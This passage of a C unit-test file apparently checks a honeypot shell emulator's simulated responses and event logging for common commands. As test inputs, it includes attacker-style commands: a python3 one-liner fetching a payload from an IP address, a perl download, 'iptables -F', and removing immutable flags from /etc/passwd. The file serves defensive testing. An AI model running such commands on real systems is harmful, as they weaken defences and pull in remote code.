    assert_int_equal(fx_run(f, "service nosuch start", NULL), 1);
    assert_string_equal(fx_err(f), "nosuch: unrecognized service\n");
    assert_int_equal(fx_run(f, "iptables -F", NULL), 0);
    assert_string_equal(fx_out(f), "");
    assert_int_equal(fx_run(f, "iptables -L", NULL), 0);
    assert_string_equal(fx_out(f), "Chain INPUT (policy ACCEPT)\ntarget     prot opt source               destination         \n\n"
                                   "Chain FORWARD (policy ACCEPT)\ntarget     prot opt source               destination         \n\n"
                                   "Chain OUTPUT (policy ACCEPT)\ntarget     prot opt source               destination         \n");
    fx_free(f);
    f = fx_new("debian", false);
    assert_int_equal(fx_run(f, "apt-get install x", NULL), 100);
    assert_string_equal(fx_err(f), "E: Could not open lock file /var/lib/dpkg/lock-frontend - open (13: Permission denied)\n"
                                   "E: Unable to acquire the dpkg frontend lock (/var/lib/dpkg/lock-frontend), are you root?\n");
    fx_free(f);
}

static void test_scripts(void **state)
{
    struct fx *f = fx_new("debian", true);
    assert_int_equal(fx_run(f, "python3 -c print('hi')", NULL), 0);
    assert_string_equal(fx_out(f), "hi\n");
    assert_int_equal(f->nev, 1);
    assert_string_equal(f->ev_id[0], "command.script");
    assert_string_equal(f->ev_val[0], "print('hi')");
    assert_int_equal(fx_run(f, "python3 /tmp/nope.py", NULL), 2);
    assert_string_equal(fx_err(f), "python3: can't open file '/tmp/nope.py': [Errno 2] No such file or directory\n");
    assert_int_equal(fx_run(f, "python3", "import requests\n"), 1);
    assert_string_equal(fx_err(f), "Traceback (most recent call last):\n  File \"<string>\", line 1, in <module>\n"
                                   "ModuleNotFoundError: No module named 'requests'\n");
    assert_int_equal(fx_run(f, "python3", "import urllib.request;urllib.request.urlretrieve('http://5.6.7.8/m','m')\n"), 1);
    assert_int_equal(f->nfetch, 1);
    assert_string_equal(f->fetch_url[0], "http://5.6.7.8/m");
    assert_int_equal(fx_run(f, "perl", "use LWP::Simple;\ngetstore('http://x/y','y');\n"), 2);
    assert_prefix(fx_err(f), "Can't locate LWP/Simple.pm in @INC (you may need to install the LWP::Simple module)");
    assert_int_equal(fx_run(f, "perl", "print \"ok\\n\";\n"), 0);
    assert_string_equal(fx_out(f), "ok\n");
    fx_free(f);
}

static void test_misc(void **state)
{
    struct fx *f = fx_new("debian", true);
    assert_int_equal(fx_run(f, "reboot", NULL), 0);
    assert_int_equal(f->logouts, 1);
    assert_int_equal(fx_run(f, "clear", NULL), 0);
    assert_string_equal(fx_out(f), "\x1b[H\x1b[2J\x1b[3J");
    assert_int_equal(fx_run(f, "lsb_release -a", NULL), 0);
    assert_string_equal(fx_out(f), "Distributor ID:\tDebian\nDescription:\tDebian GNU/Linux 12 (bookworm)\nRelease:\t12\nCodename:\tbookworm\n");
    assert_string_equal(fx_err(f), "No LSB modules are available.\n");
    assert_int_equal(fx_run(f, "tty", NULL), 0);
    assert_string_equal(fx_out(f), "/dev/pts/0\n");
    assert_int_equal(fx_run(f, "tty", ""), 1);
    assert_string_equal(fx_out(f), "not a tty\n");
    assert_int_equal(fx_run(f, "mount", NULL), 0);
    assert_non_null(strstr(fx_out(f), " on / type ext4 ("));
    assert_int_equal(fx_run(f, "chattr -ia /etc/passwd", NULL), 0);
    assert_int_equal(fx_run(f, "chattr +i /nope", NULL), 1);
    assert_string_equal(fx_err(f), "chattr: No such file or directory while trying to stat /nope\n");
    assert_int_equal(fx_run(f, "lsattr /etc/passwd", NULL), 0);
    assert_string_equal(fx_out(f), "--------------e------- /etc/passwd\n");
    fx_free(f);
    f = fx_new("debian", false);
    assert_int_equal(fx_run(f, "reboot", NULL), 1);
    assert_int_equal(f->logouts, 0);
    assert_int_equal(fx_run(f, "dmesg", NULL), 1);
    assert_string_equal(fx_err(f), "dmesg: read kernel buffer failed: Operation not permitted\n");
    fx_free(f);
}

/* Debian's links: reboot -> systemctl, pidof -> killall5, lsmod -> kmod. */
static void test_links(void **state)
{
    struct fx *f = fx_new("debian", true);
    assert_int_equal(fx_run_as(f, "killall5", "/usr/bin/pidof cron", NULL), 0);
    assert_string_equal(fx_out(f), "535\n");
    assert_int_equal(fx_run_as(f, "kmod", "lsmod", NULL), 0);
    assert_prefix(fx_out(f), "Module                  Size  Used by\n");
    assert_int_equal(fx_run_as(f, "systemctl", "/sbin/shutdown -c", NULL), 0);
    assert_int_equal(f->logouts, 0);
    assert_int_equal(fx_run_as(f, "systemctl", "/sbin/reboot", NULL), 0);
    assert_int_equal(f->logouts, 1);
    assert_int_equal(fx_run_as(f, "systemd", "init 6", NULL), 0);
    assert_int_equal(f->logouts, 2);
    fx_free(f);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_uname),
        cmocka_unit_test(test_uname_machine_consistency),
        cmocka_unit_test(test_id_whoami),
        cmocka_unit_test(test_uptime_w),
        cmocka_unit_test(test_uptime_proc_consistency),
        cmocka_unit_test(test_free_mem),
        cmocka_unit_test(test_df),
        cmocka_unit_test(test_cpu_consistency),
        cmocka_unit_test(test_ps),
        cmocka_unit_test(test_top),
        cmocka_unit_test(test_pidof_pgrep),
        cmocka_unit_test(test_kill),
        cmocka_unit_test(test_wrappers),
        cmocka_unit_test(test_busybox),
        cmocka_unit_test(test_ulimit_history_sleep),
        cmocka_unit_test(test_date_hostname),
        cmocka_unit_test(test_crontab),
        cmocka_unit_test(test_passwords),
        cmocka_unit_test(test_users),
        cmocka_unit_test(test_packages_services),
        cmocka_unit_test(test_scripts),
        cmocka_unit_test(test_misc),
        cmocka_unit_test(test_links),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
